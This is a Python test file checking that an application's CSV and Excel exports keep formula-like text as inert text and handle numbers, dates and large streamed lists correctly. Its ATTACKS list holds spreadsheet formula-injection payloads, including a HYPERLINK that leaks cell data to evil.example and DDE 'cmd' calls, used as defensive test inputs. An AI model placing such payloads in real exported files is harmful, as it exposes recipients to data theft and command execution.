"""No cell of an export can run: text that a spreadsheet would read as a formula stays text."""

import csv
import datetime
import io

import openpyxl
import pytest

from khuyencong.core.spreadsheets import CsvLines, Workbook, csv_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_quotes_text_that_starts_like_a_formula(text):
    assert csv_cell(text) == "'" + text
    line = CsvLines(bom=False).row(["Mây tre đan", text, 12, -5, None])
    assert next(csv.reader(io.StringIO(line))) == ["Mây tre đan", "'" + text, "12", "-5", ""]


def test_csv_leaves_ordinary_values_alone():
    assert csv_cell("Cơ sở Gốm sứ") == "Cơ sở Gốm sứ"
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell(None) == ""
    assert csv_cell(datetime.date(2026, 1, 2)) == datetime.date(2026, 1, 2)


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    output = io.BytesIO()
    book = Workbook(output)
    sheet = book.add_worksheet("Thử")
    bold = book.add_format({"bold": True})
    book.write_row(sheet, 0, 0, ["=Tên", "Số"], bold)
    for row, text in enumerate(ATTACKS, start=1):
        book.write(sheet, row, 0, text)
        book.write(sheet, row, 1, -row * 1_000_000)
    book.write(sheet, 20, 0, datetime.date(2026, 3, 1))
    book.close()
    loaded = openpyxl.load_workbook(io.BytesIO(output.getvalue()))["Thử"]
    assert loaded["A1"].data_type == "s" and loaded["A1"].value == "=Tên"
    for row, text in enumerate(ATTACKS, start=1):
        cell = loaded.cell(row=row + 1, column=1)
        assert cell.data_type == "s", (text, cell.data_type)  # "f" would be a live formula
        assert cell.value in (text, text.replace("\r", "_x000D_"))  # openpyxl keeps CR escaped
        assert cell.quotePrefix  # Excel's own "this is text" mark: stays text when edited
        number = loaded.cell(row=row + 1, column=2)
        assert number.data_type == "n" and number.value == -row * 1_000_000
    assert loaded["A21"].value == datetime.datetime(2026, 3, 1)


def _list_rows(n: int):
    for i in range(n):
        yield [
            f"SYN-KCQG-2024-08-{i:05d}",
            f"Đào tạo nghề mây tre đan số {i}",
            2024,
            "=1+1",
            i * 1_000_000,
            None,
        ]


def test_a_long_list_is_written_as_it_is_read(tmp_path):
    """The list writer streams: its memory does not grow with the rows (constant-memory mode writes
    each row out once the next starts). In memory, 10× the rows would take about 10× the memory."""
    import tracemalloc

    from khuyencong.core.spreadsheets import xlsx_rows

    headers = ["Mã", "Tên", "Năm", "Ghi chú", "Kinh phí (đồng)", "Trống"]
    peaks = []
    for n in (1_000, 10_000):
        tracemalloc.start()
        written = xlsx_rows(
            tmp_path / f"list-{n}.xlsx", "Đề án", headers, _list_rows(n), [False] * 4 + [True, False]
        )
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert written == n
    assert peaks[1] < peaks[0] * 1.5, peaks
    sheet = openpyxl.load_workbook(tmp_path / "list-10000.xlsx", read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 10_001 and rows[0] == tuple(headers)
    assert rows[10_000] == (
        "SYN-KCQG-2024-08-09999",
        "Đào tạo nghề mây tre đan số 9999",
        2024,
        "=1+1",
        9_999_000_000,
        None,
    )


def test_the_list_writer_keeps_text_as_text_and_formats_numbers(tmp_path):
    from khuyencong.core.spreadsheets import xlsx_rows

    path = tmp_path / "list.xlsx"
    xlsx_rows(path, "Đề án", ["Tên", "Kinh phí"], [[text, 5_000_000] for text in ATTACKS], [False, True])
    sheet = openpyxl.load_workbook(path).active
    for row, text in enumerate(ATTACKS, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.quotePrefix, text
        number = sheet.cell(row=row, column=2)
        assert number.value == 5_000_000 and number.number_format == "#,##0"
    assert sheet.freeze_panes == "A2"
